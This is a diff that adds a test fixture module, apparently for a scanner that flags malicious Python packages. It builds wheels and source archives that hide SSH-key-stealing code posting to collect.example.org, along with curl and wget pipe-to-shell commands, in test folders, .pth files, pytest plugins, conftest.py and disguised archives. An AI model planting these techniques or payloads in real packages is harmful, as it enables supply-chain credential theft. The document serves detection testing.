@@ -1,0 +1,264 @@
+"""Code where nobody looks: among tests, in archives of data, and started from elsewhere."""
+import io
+import lzma
+import tarfile
+import zipfile
+
+from .package import attack, elf, honest, source
+
+STEALS = '''
+    import urllib.request
+
+    def send():
+        key = open("/home/user/.ssh/id_rsa").read()
+        urllib.request.urlopen("http://collect.example.org/", data=key.encode())
+
+    send()
+    '''
+
+
+def tar(files, mode="w:xz"):
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode=mode) as t:
+        for name, data in files.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            t.addfile(info, io.BytesIO(data))
+    return out.getvalue()
+
+
+def zipped(files):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in files.items():
+            z.writestr(zipfile.ZipInfo(name), data)
+    return out.getvalue()
+
+
+@attack
+def tests_imported_by_init(p):
+    """The package imports a module of its own tests, which steals. Must be held."""
+    return p.wheel("from .tests import check\n", files={"{m}/tests/__init__.py": b"", "{m}/tests/check.py": STEALS})
+
+
+@attack
+def tests_imported_absolutely(p):
+    """A folder "tests" beside the package, imported by a module that is not the first. Must be held."""
+    return p.wheel("from .tables import columns\nfrom . import more\n",
+                   files={"{m}/more.py": "import tests.check\n", "tests/check.py": STEALS})
+
+
+@attack
+def tests_imported_through_tests(p):
+    """The package imports a harmless module of its tests, which imports the one that steals. Must be held."""
+    return p.wheel("import {m}.examples.first\n".replace("{m}", p.module),
+                   files={"{m}/examples/__init__.py": b"", "{m}/examples/first.py": "from . import second\n",
+                          "{m}/examples/second.py": STEALS})
+
+
+@attack
+def tests_imported_by_name(p):
+    """importlib imports a module of the tests by a name put together from pieces. Must be held."""
+    return p.wheel('''
+        import importlib
+
+        importlib.import_module("." + "tes" + "ts.check", __package__)
+        ''', files={"{m}/tests/check.py": STEALS})
+
+
+@attack
+def tests_imported_by_pth(p):
+    """A .pth file imports a module of the tests when any Python starts. Must be held."""
+    return p.wheel(files={"tables_start.pth": b"import tests.check\n", "tests/check.py": STEALS})
+
+
+@attack
+def tests_of_an_entry_point(p):
+    """The command of the package is a function of its tests. Must be held."""
+    return p.wheel(files={"{m}/tests/__init__.py": b"", "{m}/tests/check.py": STEALS}, entry_points='''
+        [console_scripts]
+        tables-show = {m}.tests.check:send
+        ''')
+
+
+@attack
+def tests_on_the_path(p):
+    """The package puts the folder of its tests on sys.path and imports from there. Must be held."""
+    return p.wheel('''
+        import os
+        import sys
+
+        sys.path.insert(0, os.path.join(os.path.dirname(__file__), "fixtures"))
+        import measure
+        ''', files={"{m}/fixtures/measure.py": STEALS})
+
+
+@attack
+def tests_run_by_runpy(p):
+    """A script of the wheel runs a file of the tests by its path. Must be held."""
+    return p.wheel(files={"{m}/run.py": '''
+        import os
+        import runpy
+
+        runpy.run_path(os.path.join(os.path.dirname(__file__), "tests", "check_tables.py"))
+        ''', "{m}/tests/check_tables.py": STEALS})
+
+
+@attack
+def tests_run_as_a_module(p):
+    """The package starts Python with -m and a module of its tests. Must be held."""
+    return p.wheel(files={"{m}/tests/check.py": STEALS}, init=f'''
+        import subprocess
+        import sys
+
+
+        def check():
+            subprocess.run([sys.executable, "-m", "{p.module}.tests.check"])
+        ''')
+
+
+@attack
+def tests_native_imported(p):
+    """An extension module lies among the tests of a wheel for any platform, and the package imports it. Must be
+    held."""
+    return p.wheel("from .tests import _speed\n", files={"{m}/tests/_speed.so": elf(b"\x90" * 4000)})
+
+
+@attack
+def tests_imported_in_sdist(p):
+    """The same by way of a source archive, whose setup.py only declares. Must be held."""
+    return p.sdist("from .tests import check\n", files={"{m}/tests/__init__.py": b"", "{m}/tests/check.py": STEALS})
+
+
+@attack
+def pytest_plugin_among_tests(p):
+    """pytest loads a plug-in out of the tests in every project of whoever installed this. Must be held."""
+    return p.wheel(files={"{m}/testing/__init__.py": b"", "{m}/testing/plugin.py": STEALS}, entry_points='''
+        [pytest11]
+        tables = {m}.testing.plugin
+        ''')
+
+
+@attack
+def conftest_on_top(p):
+    """A conftest.py on top of site-packages, which steals as soon as it is imported. Must be held."""
+    return p.wheel(files={"conftest.py": STEALS})
+
+
+@attack
+def archive_among_tests_unpacked(p):
+    """Source in a packed archive among the tests; the package unpacks it when it is called. Must be held."""
+    return p.wheel('''
+        import os
+        import tarfile
+
+
+        def restore(folder):
+            name = os.path.join(os.path.dirname(__file__), "tests", "data", "tables.tar.xz")
+            tarfile.open(name).extractall(folder)
+        ''', files={"{m}/tests/data/tables.tar.xz": tar({"tables/tests/check.py": source(STEALS)})})
+
+
+@attack
+def archive_of_data_unpacked(p):
+    """Source in a packed archive of data; the package unpacks it when it is called. Must be held."""
+    return p.wheel('''
+        import pkgutil
+
+
+        def restore():
+            return pkgutil.get_data(__name__, "data/tables.bin")
+        ''', files={"{m}/data/tables.bin": tar({"tables/check.py": source(STEALS)}, "w:gz")})
+
+
+@attack
+def source_packed_among_tests(p):
+    """A packed file of source among the tests, executed by the package. Must be held."""
+    return p.wheel('''
+        import lzma
+        import os
+
+        exec(lzma.open(os.path.join(os.path.dirname(__file__), "tests", "check.py.xz")).read())
+        ''', files={"{m}/tests/check.py.xz": lzma.compress(source(STEALS))})
+
+
+@attack
+def archive_named_text(p):
+    """An archive with source, under the name of a text. Must be held."""
+    return p.wheel(files={"{m}/data/notes.txt": zipped({"check.py": source(STEALS)})})
+
+
+@attack
+def shell_among_tests_started(p):
+    """The package starts a shell script of its tests, which fetches another and runs it. Must be held."""
+    return p.wheel('''
+        import os
+        import subprocess
+
+
+        def check():
+            subprocess.run(["sh", os.path.join(os.path.dirname(__file__), "tests", "check.sh")])
+        ''', files={"{m}/tests/check.sh": b"#!/bin/sh\ncd /tmp\ncurl -fsSL https://cdn.example.net/i.sh \\\n | sh\n"})
+
+
+@attack
+def shell_named_text_started(p):
+    """The package has a shell run a file that is named like a text. Must be held."""
+    return p.wheel('''
+        import os
+
+
+        def check():
+            os.system("sh data/check.txt")
+        ''', files={"{m}/data/check.txt": b"cd /tmp\ncurl -fsSL https://cdn.example.net/i.sh | sh\n"})
+
+
+@attack
+def shell_as_a_command(p):
+    """The command that the wheel installs is a shell script that fetches another. Must be held."""
+    return p.packed(__import__("house").wheels.pack(p.members(files={
+        f"{p.module}-{p.version}.data/scripts/tables-show":
+            b"#!/bin/sh\nwget -qO- https://cdn.example.net/i.sh | bash\n"})))
+
+
+QUIET = '''
+    import urllib.request
+
+    DATA = urllib.request.urlopen("http://127.0.0.1:8000/").read()
+    '''
+
+
+@honest
+def tests_that_use_the_network(p):
+    """Tests that ask a server as soon as they are imported; nothing else imports them."""
+    return p.wheel("from .tables import columns\n\ntests = columns\n",
+                   files={"{m}/tests/__init__.py": b"", "{m}/tests/test_fetch.py": QUIET,
+                          "{m}/testing.py": "def tests():\n    \"\"\"Runs the tests in {m}/tests with pytest.\"\"\"\n"})
+
+
+@honest
+def helpers_among_tests(p):
+    """The package offers helpers for the tests of others; what they import is harmless, the tests beside are not."""
+    return p.wheel("from .testing import helpers\n",
+                   files={"{m}/testing/__init__.py": b"", "{m}/testing/helpers.py": "def same(a, b):\n    return a == b\n",
+                          "{m}/testing/tests/test_fetch.py": QUIET})
+
+
+@honest
+def archive_among_tests(p):
+    """An archive of sources as an input of tests; only the tests name it."""
+    return p.wheel(files={"{m}/tests/test_read.py": 'NAME = "project.tar.gz"\n',
+                          "{m}/tests/data/project.tar.gz": tar({"project/check.py": source(STEALS)}, "w:gz")})
+
+
+@honest
+def shell_script_that_is_started(p):
+    """The package starts a shell script of its own that is harmless."""
+    return p.wheel('''
+        import os
+        import subprocess
+
+
+        def show():
+            subprocess.run(["sh", os.path.join(os.path.dirname(__file__), "show.sh")])
+        ''', files={"{m}/show.sh": b"#!/bin/sh\n# not: curl https://example.org/i.sh | sh\nprintf '%s\\n' \"$@\"\n"})
